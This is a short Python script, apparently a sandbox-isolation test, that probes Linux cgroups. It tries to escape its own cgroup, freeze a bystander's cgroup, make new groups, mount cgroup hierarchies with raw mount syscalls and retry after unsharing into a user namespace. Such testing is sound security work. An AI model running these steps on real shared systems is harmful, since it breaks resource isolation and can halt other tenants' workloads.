"""Out of its own cgroup, and into the bystander's: to escape its bounds, or to freeze others."""

import glob
import os
import time

from attacker import FACTS, attempt, got_it, note, syscall

MOUNT, UNSHARE = (165, 40), (272, 97)
HIERARCHIES = {"cgroup2": [b""], "cgroup": [b"pids", b"memory", b"freezer", b"cpu", b"none,name=systemd"]}
THEIRS = [f"{FACTS['cgroup']}/slot-{slot}" for slot in FACTS["bystander_slots"].values()]


def use(top):
    """Whatever can be done in a hierarchy that is to be seen at `top`."""
    for name in ("cgroup.procs", "tasks"):
        if (
            attempt(f"{top}/{name}", lambda name=name: open(f"{top}/{name}", "w").write(str(os.getpid())))
            is not None
        ):
            got_it(f"went to {top}")
    for theirs in THEIRS:
        if attempt(
            f"freeze {theirs}", lambda theirs=theirs: open(f"{top}/{theirs}/cgroup.freeze", "w").write("1")
        ):
            time.sleep(0.1)
            if "frozen 1" in open(f"{top}/{theirs}/cgroup.events").read():
                got_it(f"froze {theirs}")
            open(f"{top}/{theirs}/cgroup.freeze", "w").write("0")
        if (
            attempt(f"state of {theirs}", lambda theirs=theirs: open(f"{top}/{theirs}/freezer.state", "w"))
            is not None
        ):
            got_it(f"may freeze {theirs}")
    if attempt("a group of its own", lambda: os.mkdir(f"{top}/syn-attack") or True):
        got_it(f"made a group in {top}")
        os.rmdir(f"{top}/syn-attack")


def look():
    """In every hierarchy that is mounted already, and in those that it can mount itself."""
    for line in open("/proc/self/mountinfo"):
        if " - cgroup" in line:
            got_it(f"a mount of cgroups: {line}")
            use(line.split()[4])
    for top in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified", *glob.glob("/sys/fs/cgroup/*")):
        use(top)
    for kind, several in HIERARCHIES.items():
        for number, options in enumerate(several):
            place = f"/tmp/{kind}-{number}"
            os.makedirs(place, exist_ok=True)
            if attempt(place, syscall, MOUNT, b"x", place.encode(), kind.encode(), 0, options) is not None:
                got_it(f"mounted {kind} {options.decode()}")
                use(place)


note(open("/proc/self/cgroup").read())
look()
attempt("a user namespace", syscall, UNSHARE, 0x1000_0000 | 0x200_0000 | 0x2_0000)
look()
